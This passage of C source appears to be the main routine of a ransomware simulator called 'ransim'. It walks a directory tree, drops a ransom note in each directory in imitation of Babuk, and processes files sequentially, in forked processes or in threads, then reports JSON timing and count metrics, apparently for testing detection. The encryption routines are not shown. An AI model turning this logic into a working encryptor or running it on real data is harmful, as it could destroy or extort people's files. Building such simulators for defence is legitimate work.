			memcpy(g.key + i, &v, 8);
		}
	} else if (RAND_bytes(g.key, sizeof(g.key)) != 1) {
		fprintf(stderr, "ransim: RAND_bytes failed\n");
		return 1;
	}
	for (int i = 0; i < 16; i += 8) {
		uint64_t v = rng_next();
		memcpy(g.iv_base + i, &v, 8);
	}
	make_note_text();
	if (!g.note_text)
		return 1;

	g.sh = mmap(NULL, sizeof(*g.sh), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (g.sh == MAP_FAILED) {
		perror("ransim: mmap");
		return 1;
	}
	/* The log is opened before the attack starts so a SIGKILL cannot lose it. */
	if (log_path) {
		struct stat st;
		g.log_fd = open(log_path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
		if (g.log_fd < 0 || fstat(g.log_fd, &st) < 0) {
			fprintf(stderr, "ransim: %s: %s\n", log_path, strerror(errno));
			return 1;
		}
		g.log_dev = st.st_dev;
		g.log_ino = st.st_ino;
	}
	struct sigaction sa = { .sa_handler = on_signal };
	sigemptyset(&sa.sa_mask);
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);

	if (nftw(g.root, walk_cb, 64, FTW_PHYS | FTW_MOUNT) < 0) {
		fprintf(stderr, "ransim: walk %s: %s\n", g.root, strerror(errno));
		return 1;
	}
	/* Notes first, one per directory, as Babuk's walker does on entering a directory. */
	if (g.notes)
		for (size_t i = 0; i < g.ndirs && !stop_requested; i++)
			drop_note(g.dirs[i]);

	if (g.mode->io != IO_NONE) {
		switch (g.mode->run) {
		case RUN_SEQ:
			for (size_t i = 0; i < g.nfiles && !stop_requested && !limit_reached(); i++) {
				if (i && g.delay_ms)
					sleep_ms(g.delay_ms);
				process_file(g.files[i], i);
			}
			break;
		case RUN_FORK:
			run_fork();
			break;
		case RUN_THREADS: {
			pthread_t tid[256];
			unsigned started = 0;
			for (unsigned i = 0; i < g.threads; i++)
				if (pthread_create(&tid[started], NULL, worker, NULL) == 0)
					started++;
			for (unsigned i = 0; i < started; i++)
				pthread_join(tid[i], NULL);
			break;
		}
		}
	}

	printf("{\"mode\":\"%s\",\"files_modified\":%" PRIu64 ",\"files_done\":%" PRIu64
	       ",\"notes_written\":%" PRIu64 ",\"errors\":%" PRIu64 ",\"first_write_ns\":%" PRIu64
	       ",\"pid\":%ld,\"files_seen\":%zu,\"stopped\":%s",
	       g.mode->name, (uint64_t)atomic_load(&g.sh->claimed),
	       (uint64_t)atomic_load(&g.sh->done), (uint64_t)atomic_load(&g.sh->notes),
	       (uint64_t)atomic_load(&g.sh->errors), (uint64_t)atomic_load(&g.sh->first_write_ns),
	       (long)getpid(), g.nfiles, stop_requested ? "true" : "false");
	json_str("ext", g.ext);
	json_str("note_name", g.note_name);
	json_str("cipher", g.cipher_name);
	printf(",\"seed\":%" PRIu64 "}\n", g.seed);
	fflush(stdout);

	for (size_t i = 0; i < g.nfiles; i++)
		free(g.files[i]);
	for (size_t i = 0; i < g.ndirs; i++)
		free(g.dirs[i]);
	free(g.files);
	free(g.dirs);
	free(g.note_text);
	if (g.log_fd >= 0)
		close(g.log_fd);
	return atomic_load(&g.sh->errors) ? 1 : 0;
}
